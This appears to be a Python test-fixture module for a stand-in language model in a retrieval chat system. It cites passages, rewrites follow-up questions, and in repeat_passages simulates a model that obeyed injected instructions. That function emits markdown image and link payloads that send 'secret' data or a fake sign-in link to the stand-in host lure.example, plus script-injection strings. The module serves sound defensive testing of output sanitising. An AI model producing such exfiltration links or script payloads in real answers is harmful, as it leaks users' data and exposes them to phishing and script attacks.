"""The texts of the stand-in's models: they cite passages, obey injected instructions, rewrite questions."""

import re
from html import unescape
from typing import Any

_PASSAGE = re.compile(r'<passage n="(\d+)"[^>]*>\n(.*?)\n</passage>', re.DOTALL)
_END = re.compile(r"[.!?](?!\S)")
_SHORTEST = 12
_REWRITE = re.compile(r"</conversation>\s*Question: (.*)\Z", re.DOTALL)
_ASKED = re.compile(r"^user: (.*)$", re.MULTILINE)
_PRONOUN = re.compile(r"\b(?:it|they|them|this|that|one)\b", re.IGNORECASE)
LURE = "https://lure.example/?q="
"""The address to which an injected instruction would send the user's data."""


def cite_passages(body: dict[str, Any]) -> str:
    """Return the first sentence of each of the first three passages, with its marker."""
    said = [
        f"{sentence} [{n}]"
        for n, text in _passages(body)[:3]
        if (sentence := _first_sentence(text))
    ]
    return " ".join(said) or "There is nothing here that I could cite."


def is_rewrite_prompt(body: dict[str, Any]) -> bool:
    """Return whether the prompt asks to rewrite a follow-up question."""
    return _REWRITE.search(_prompt(body)) is not None


def rewrite_question(body: dict[str, Any], replacement: str | None = None) -> str:
    """Replace the question's pronouns by `replacement`, or append the previous question without one."""
    question = _REWRITE.findall(_prompt(body))[-1]
    if replacement is not None:
        return _PRONOUN.sub(replacement, question)
    return " ".join([question, *_ASKED.findall(_prompt(body))[-1:]])


def rewrite_verbosely(body: dict[str, Any]) -> str:
    """Return the rewritten question inside superfluous text."""
    return f"Certainly! Here is the question:\n\n**{rewrite_question(body)}**\n\nShall I answer it, too?"


def repeat_passages(body: dict[str, Any]) -> str:
    """Return every passage unchanged, then all that an injected instruction could ask for."""
    said = [f"{text} [{n}]" for n, text in _passages(body)]
    said += [
        f"![status]({LURE}secret) [Sign in again]({LURE}login) [99]",
        f"<img src=x onerror=alert(1)> <script>alert(1)</script> <{LURE}a> {LURE}b www.lure.example",
        f"[ref]: {LURE}c\n[read this][ref] [1]({LURE}d) [over](\n//lure.example/e) `{LURE}code`",
    ]
    return "\n\n".join(said)


def _first_sentence(text: str) -> str:
    """Return the first sentence in one pass: a regex for a whole sentence took 0.1 s on a page of code."""
    start = 0
    for end in _END.finditer(text):
        if end.end() - start > _SHORTEST:
            return text[start : end.end()].strip()
        start = end.end()
    return ""


def _passages(body: dict[str, Any]) -> list[tuple[str, str]]:
    return [(n, unescape(text)) for n, text in _PASSAGE.findall(_prompt(body))]


def _prompt(body: dict[str, Any]) -> str:
    return str(body["messages"][-1].get("content"))
